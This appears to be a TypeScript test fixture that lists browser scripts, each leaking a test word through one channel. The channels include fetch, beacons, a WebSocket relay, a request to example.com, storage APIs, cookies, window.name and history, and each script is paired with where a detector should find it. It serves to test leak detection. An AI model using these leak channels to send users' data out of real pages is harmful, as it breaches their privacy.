/** Scripts that deliberately leak a word, in each way that a page could. */

/** A leak's name, its script, and where to find it. */
export const leaksBy = (relay: string): [string, (word: string) => string, string][] => [
  ['an address', (word) => `fetch('/api/health?q=${word}')`, 'sent'],
  ['a header', (word) => `fetch('/api/health', { headers: { 'x-leak': '${word}' } })`, 'sent'],
  ['a body', (word) => `fetch('/api/auth/logout', { method: 'POST', body: '${word}' })`, 'sent'],
  ['a beacon', (word) => `navigator.sendBeacon('/api/health', '${word}')`, 'sent'],
  ['a frame', (word) => SEND_FRAME.replace('RELAY', relay).replace('WORD', word), 'sent'],
  ['another server', (word) => `fetch('https://example.com/${word}').catch(() => 0)`, 'heard'],
  ['the console', (word) => `console.debug('${word}')`, 'heard'],
  ['a store', (word) => `localStorage.setItem('leak', '${word}')`, 'localStorage'],
  ['a tab', (word) => `sessionStorage.setItem('leak', '${word}')`, 'sessionStorage'],
  ['a database', (word) => WRITE_DATABASE.replace('WORD', word), 'IndexedDB'],
  [
    'a cache',
    (word) => `caches.open('leak').then((one) => one.put('/leak', new Response('${word}')))`,
    'Cache Storage',
  ],
  ['a cookie', (word) => `document.cookie = 'leak=${word}'`, 'cookies'],
  ['the name of a window', (word) => `window.name = '${word}'`, 'window.name'],
  ['a title', (word) => `document.title = '${word}'`, 'title'],
  ['the address bar', (word) => `history.pushState(null, '', '?${word}')`, 'history'],
  ['a state', (word) => `history.replaceState({ word: '${word}' }, '')`, 'history.state'],
  ['an element', (word) => `document.body.append('${word}')`, 'shown'],
  ['a field', (word) => `document.querySelector('input').value = '${word}'`, 'shown'],
  ['a variable', (word) => `void (globalThis.leak = '${word}')`, 'page'],
];

const SEND_FRAME = `new Promise((resolve, reject) => {
  const relay = new URLSearchParams({ relay: 'RELAY' });
  const socket = new WebSocket('/api/lightning/relay?' + relay);
  socket.onopen = () => resolve(socket.send('["NOTE", "WORD"]'));
  socket.onerror = () => reject(new Error('The pipe does not open'));
})`;

const WRITE_DATABASE = `new Promise((resolve, reject) => {
  const opening = indexedDB.open('leak');
  opening.onupgradeneeded = () => opening.result.createObjectStore('leak').add('WORD', 1);
  opening.onsuccess = () => resolve(opening.result.close());
  opening.onerror = () => reject(opening.error);
})`;
